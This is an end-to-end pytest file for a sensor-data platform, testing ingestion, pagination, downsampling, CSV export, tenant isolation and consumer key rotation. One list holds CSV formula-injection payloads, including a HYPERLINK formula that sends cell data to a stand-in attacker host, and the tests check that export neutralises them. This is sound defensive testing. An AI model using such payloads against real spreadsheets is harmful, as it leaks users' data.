"""Readings sent through gateway-http, indexed by the pipeline, read back through the data API and the proxy."""

import csv
import io
import time

import pytest
import requests
from elasticsearch import AuthenticationException, AuthorizationException, Elasticsearch, NotFoundError

pytestmark = pytest.mark.e2e

# The same instant written five ways, each a second apart: s, ms, µs, ns and ISO-8601.
BASE = 1_764_300_000  # 2025-11-28T03:20:00Z
READINGS = [
    (BASE, 10.0),
    ((BASE + 1) * 1000 + 250, 11.5),                       # ms
    ((BASE + 2) * 1_000_000 + 250_500, 12.0),              # µs
    ((BASE + 3) * 1_000_000_000 + 250_500_001, 13.5),      # ns
    ("2025-11-28T03:20:04.999999999Z", 15.0),              # ISO-8601
]
EXPECTED_TIMESTAMPS = ["2025-11-28T03:20:00.000000000Z", "2025-11-28T03:20:01.250000000Z",
                       "2025-11-28T03:20:02.250500000Z", "2025-11-28T03:20:03.250500001Z",
                       "2025-11-28T03:20:04.999999999Z"]


@pytest.fixture
def sensors(services, new_user):
    """A user with a device, a double and a long sensor, readings sent over HTTP and visible through the API."""
    owner = new_user()
    device = owner.create_device("boiler", "basement")
    temp = owner.create_sensor(device["id"], "temperature", '{"type":"double"}')
    count = owner.create_sensor(device["id"], "pulses", {"type": "integer"})
    key = owner.device_key(device["id"])["token"]
    body = [{"sensor_id": temp["id"], "timestamp": ts, "value": value} for ts, value in READINGS]
    body.append({"sensor_id": count["id"], "timestamp": BASE, "value": "7"})
    sent = requests.post(services["gateway"] + "/", json=body, headers={"Authorization": f"Bearer {key}"}, timeout=30)
    assert sent.json() == {"accepted": 6, "replaced": 0}
    _wait_for(owner, temp["id"], 5)
    return owner, device, temp, count


def _wait_for(client, sensor_id, count, timeout=60):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        points = client.call("GET", f"/api/sensors/{sensor_id}/data")["points"]
        if len(points) >= count:
            return points
        time.sleep(0.3)
    raise AssertionError(f"{sensor_id}: {count} readings did not arrive within {timeout}s")


def test_readings_come_back_exactly_newest_first(sensors):
    owner, _, temp, count = sensors
    reply = owner.call("GET", f"/api/sensors/{temp['id']}/data")
    assert reply["sensor_id"] == temp["id"] and reply["type"] == "double" and reply["next_cursor"] is None
    assert reply["points"] == [{"timestamp": ts, "value": value}
                               for ts, (_, value) in reversed(list(zip(EXPECTED_TIMESTAMPS, READINGS)))]
    ascending = owner.call("GET", f"/api/sensors/{temp['id']}/data", params={"order": "asc"})["points"]
    assert [p["timestamp"] for p in ascending] == EXPECTED_TIMESTAMPS
    assert owner.call("GET", f"/api/sensors/{count['id']}/data")["points"] == [
        {"timestamp": EXPECTED_TIMESTAMPS[0], "value": 7}]


def test_time_range_and_cursor_pages(sensors):
    owner, _, temp, _ = sensors
    ranged = owner.call("GET", f"/api/sensors/{temp['id']}/data",
                        params={"from": "2025-11-28T03:20:01Z", "to": str((BASE + 4) * 1000), "order": "asc"})
    assert [p["value"] for p in ranged["points"]] == [11.5, 12.0, 13.5]
    pages, cursor = [], None
    while True:
        params = {"limit": 2, **({"cursor": cursor} if cursor else {})}
        page = owner.call("GET", f"/api/sensors/{temp['id']}/data", params=params)
        pages.append([p["value"] for p in page["points"]])
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert pages == [[15.0, 13.5], [12.0, 11.5], [10.0]]


def test_downsampled_buckets(sensors):
    owner, _, temp, count = sensors
    two_seconds = owner.call("GET", f"/api/sensors/{temp['id']}/data",
                             params={"interval": "2s", "agg": "avg", "order": "asc"})
    assert (two_seconds["interval"], two_seconds["agg"]) == ("2s", "avg")
    assert two_seconds["points"] == [
        {"timestamp": "2025-11-28T03:20:00.000000000Z", "value": (10.0 + 11.5) / 2},
        {"timestamp": "2025-11-28T03:20:02.000000000Z", "value": (12.0 + 13.5) / 2},
        {"timestamp": "2025-11-28T03:20:04.000000000Z", "value": 15.0},
    ]
    minute = owner.call("GET", f"/api/sensors/{temp['id']}/data", params={"interval": "1m", "agg": "max"})
    assert minute["points"] == [{"timestamp": "2025-11-28T03:20:00.000000000Z", "value": 15.0}]
    counted = owner.call("GET", f"/api/sensors/{temp['id']}/data", params={"interval": "1m", "agg": "count"})
    assert counted["points"][0]["value"] == 5
    assert owner.call("GET", f"/api/sensors/{count['id']}/data",
                      params={"interval": "1h", "agg": "sum"})["points"][0]["value"] == 7


def test_csv_format(sensors):
    owner, _, temp, _ = sensors
    response = owner.request("GET", f"/api/sensors/{temp['id']}/data", params={"format": "csv", "order": "asc"})
    assert response.headers["Content-Type"].startswith("text/csv")
    lines = response.text.strip().splitlines()
    assert lines[0] == "timestamp,value"
    assert lines[1:] == [f"{ts},{value}" for ts, (_, value) in zip(EXPECTED_TIMESTAMPS, READINGS)]


# Keyword readings a device chose to look like formulas (OWASP's CSV injection triggers), and ones that do not.
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1", -5, "@SUM(A1)", "\t=1", "\r=1", "a;=1+1", "open"]


def test_csv_keeps_keyword_text_from_running_as_a_formula_and_numbers_as_numbers(services, new_user):
    owner = new_user()
    device = owner.create_device("door")
    label = owner.create_sensor(device["id"], "state", {"type": "keyword"})
    temp = owner.create_sensor(device["id"], "temperature", {"type": "double"})
    key = owner.device_key(device["id"])["token"]
    body = [{"sensor_id": label["id"], "timestamp": BASE + i, "value": value} for i, value in enumerate(HOSTILE)]
    body.append({"sensor_id": temp["id"], "timestamp": BASE, "value": -5})
    sent = requests.post(services["gateway"] + "/", json=body, headers={"Authorization": f"Bearer {key}"}, timeout=30)
    assert sent.status_code == 200, sent.text
    _wait_for(owner, label["id"], len(HOSTILE))
    _wait_for(owner, temp["id"], 1)
    text = owner.request("GET", f"/api/sensors/{label['id']}/data", params={"format": "csv", "order": "asc"}).text
    assert [value for _, value in list(csv.reader(io.StringIO(text)))[1:]] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"x")', "'+1", "'-5", "'@SUM(A1)", "'\t=1", "'\r=1", "a;=1+1", "open"]
    assert text.splitlines()[-1] == '"2025-11-28T03:20:07.000000000Z","open"'  # text cells are quoted whole
    numbers = owner.request("GET", f"/api/sensors/{temp['id']}/data", params={"format": "csv"}).text
    assert numbers.splitlines()[1:] == [f"{EXPECTED_TIMESTAMPS[0]},-5.0"]  # a number, not text


@pytest.mark.parametrize("params, fragment", [
    ({"from": "yesterday"}, "from"), ({"limit": "0"}, "limit"), ({"limit": "100000"}, "limit"),
    ({"interval": "1 minute"}, "interval"), ({"interval": ""}, "interval"),
    ({"interval": "1m", "agg": "median"}, "agg"),
    ({"agg": "avg"}, "interval"), ({"order": "sideways"}, "order"), ({"format": "xml"}, "format"),
    ({"cursor": "bogus"}, "cursor"), ({"from": "2025-11-29T00:00:00Z", "to": "2025-11-28T00:00:00Z"}, "before"),
    ({"colour": "red"}, "colour"),
])
def test_bad_queries_are_400_naming_the_parameter(sensors, params, fragment):
    owner, _, temp, _ = sensors
    response = owner.request("GET", f"/api/sensors/{temp['id']}/data", params=params)
    assert response.status_code == 400, response.text
    assert response.json()["error"]["code"] == "invalid_query"
    assert fragment in response.json()["error"]["message"]


def test_other_tenants_and_devices_cannot_read(sensors, new_user, services):
    owner, device, temp, _ = sensors
    stranger = new_user()
    assert stranger.request("GET", f"/api/sensors/{temp['id']}/data").status_code == 404
    assert requests.get(f"{services['api']}/api/sensors/{temp['id']}/data", timeout=10).status_code == 401
    device_token = owner.device_key(device["id"])["token"]
    as_device = requests.get(f"{services['api']}/api/sensors/{temp['id']}/data",
                             headers={"Authorization": f"Bearer {device_token}"}, timeout=10)
    assert as_device.status_code == 401


def test_a_consumer_reads_granted_sensors_with_the_official_client(sensors, services):
    owner, _, temp, count = sensors
    consumer = owner.create_consumer("dashboard")
    owner.grant(consumer["id"], temp["id"])
    key = owner.consumer_key(consumer["id"])["token"]
    es = Elasticsearch(f"{services['api']}/api/consumers/consume", bearer_auth=key, request_timeout=30)
    try:
        result = es.search(index=temp["id"], query={"range": {"@timestamp": {"gte": "2025-11-28T03:20:01Z"}}},
                           sort=[{"@timestamp": "asc"}], size=10)
        assert [hit["_source"]["value_double"] for hit in result["hits"]["hits"]] == [11.5, 12.0, 13.5, 15.0]
        assert {hit["_source"]["sensor_id"] for hit in result["hits"]["hits"]} == {temp["id"]}
        assert es.count(index=temp["id"])["count"] == 5
        # The sensor filter is forced: a query naming another sensor finds nothing.
        sneaky = es.search(index=temp["id"], query={"term": {"sensor_id": count["id"]}})
        assert sneaky["hits"]["hits"] == []
        aggregated = es.search(index=temp["id"], size=0, aggs={"avg": {"avg": {"field": "value_double"}}})
        assert aggregated["aggregations"]["avg"]["value"] == pytest.approx(sum(v for _, v in READINGS) / 5)

        with pytest.raises(AuthorizationException):
            es.search(index=count["id"])  # not granted
        with pytest.raises(AuthorizationException):
            es.index(index=temp["id"], document={"value_double": 1})  # writes are refused
        with pytest.raises(AuthorizationException):
            es.indices.delete(index=temp["id"])
        with pytest.raises(AuthorizationException):
            es.search(index="*")

        data = requests.get(f"{services['api']}/api/sensors/{temp['id']}/data",
                            headers={"Authorization": f"Bearer {key}"}, timeout=10)
        assert data.status_code == 200 and len(data.json()["points"]) == 5
        denied = requests.get(f"{services['api']}/api/sensors/{count['id']}/data",
                              headers={"Authorization": f"Bearer {key}"}, timeout=10)
        assert denied.status_code == 403

        latest = requests.get(f"{services['api']}/api/consumers/consume/{temp['id']}",
                              headers={"Authorization": f"Bearer {key}"}, timeout=10).json()
        assert latest["hits"]["hits"][0]["_source"]["value_double"] == 15.0  # the original's call

        owner.revoke(consumer["id"], temp["id"])
        with pytest.raises(AuthorizationException):
            es.search(index=temp["id"])
    finally:
        es.close()


def test_a_rotated_consumer_key_stops_working(sensors, services):
    owner, _, temp, _ = sensors
    consumer = owner.create_consumer("old key")
    owner.grant(consumer["id"], temp["id"])
    old = owner.consumer_key(consumer["id"])["token"]
    es = Elasticsearch(f"{services['api']}/api/consumers/consume", bearer_auth=old, request_timeout=30)
    try:
        assert es.count(index=temp["id"])["count"] == 5
        new = owner.rotate_consumer_key(consumer["id"])["token"]
        time.sleep(1.5)  # the API under test caches key versions for 1 s
        with pytest.raises(AuthenticationException):
            es.count(index=temp["id"])
        fresh = Elasticsearch(f"{services['api']}/api/consumers/consume", bearer_auth=new, request_timeout=30)
        assert fresh.count(index=temp["id"])["count"] == 5
        fresh.close()
    finally:
        es.close()


def test_unknown_sensor_through_the_proxy_is_not_found(sensors, services):
    owner, *_ = sensors
    es = Elasticsearch(f"{services['api']}/api/consumers/consume", bearer_auth=owner.token, request_timeout=30)
    try:
        with pytest.raises(NotFoundError):
            es.search(index="0123456789ab")
    finally:
        es.close()
